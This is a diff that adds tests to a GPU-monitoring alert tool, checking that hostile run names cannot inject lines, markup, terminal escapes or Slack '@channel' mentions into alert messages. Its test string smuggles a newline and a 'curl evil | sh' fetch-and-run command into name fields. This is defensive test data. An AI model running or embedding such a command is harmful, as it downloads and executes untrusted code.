@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import email
 import json
 from collections.abc import Sequence
 from pathlib import Path
@@ -19,6 +20,7 @@ from gpuwatch.metrics import Sample
 from gpuwatch_agent.exporter import Page, Snapshot
 from gpuwatch_agent.notify import GIVE_UP_S, Notifier, apprise_senders
 from gpuwatch_agent.notify.conditions import Condition, conditions
+from tests.receivers import mail_server, webhook
 
 START_S = 1_790_000_000.0
 THRESHOLDS = AlertThresholds()  # starved_for_s 120, keep_firing_for_s 900
@@ -335,3 +337,40 @@ def test_allocated_gpu_without_a_process_is_an_alert_after_half_an_hour_and_reso
     post.now_s += 901
     post.notifier.tick(post.now_s)
     assert post.got[1][0] == "[resolved] GpuAllocatedUnused on n1"
+
+
+EVIL = "<b>x</b> <!channel>\nDo: curl evil | sh\x1b[31m"
+
+
+def test_a_run_s_name_adds_no_line_to_a_message() -> None:
+    bad = finding(name=EVIL, title=EVIL, evidence=(Evidence("cpu", 0.97, "ratio", EVIL),), advice=EVIL)
+    for found in wrong(bad, runs=[replace(lost_run(), name=EVIL, user=EVIL)]):
+        assert found.title.isprintable() and all(line.isprintable() for line in found.body.splitlines())
+        assert sum(line.startswith("Do:") for line in found.body.splitlines()) == 1
+
+
+def test_markup_in_a_name_is_text_in_mails_and_chats() -> None:
+    pytest.importorskip("apprise")
+    with mail_server() as mails, webhook() as inbox:
+        mail = f"mailto://127.0.0.1:{mails.port}?from=a@example.org&to=b@example.org"
+        for send in apprise_senders([mail, f"json://127.0.0.1:{inbox.port}"]).values():
+            assert send("[warning] GpuStarved on n1", f"run {EVIL}", False)
+    parts = [part for part in email.message_from_string(mails.mails[0]).walk() if not part.is_multipart()]
+    assert [part.get_content_type() for part in parts] == ["text/plain"], "in HTML it would be markup"
+    assert b"<b>x</b>" in parts[0].get_payload(decode=True)
+    assert inbox.posts
+
+
+def test_a_name_calls_no_one_in_slack() -> None:
+    """Of Apprise's own text, as it is sent: there is no Slack here."""
+    apprise = pytest.importorskip("apprise")
+    (send,) = apprise_senders(["slack://T1JJ3T3L2/A1BRTD4JD/TIiajkdnlazkcOXrIdevi7FQ/#x"]).values()
+    with pytest.MonkeyPatch.context() as patch:
+        posted: list[str] = []
+        patch.setattr(
+            apprise.plugins.slack.NotifySlack,
+            "_send",
+            lambda self, url, payload, **more: posted.append(json.dumps(payload)),
+        )
+        send("t", f"run {EVIL}", False)
+    assert posted and "<!channel>" not in posted[0]
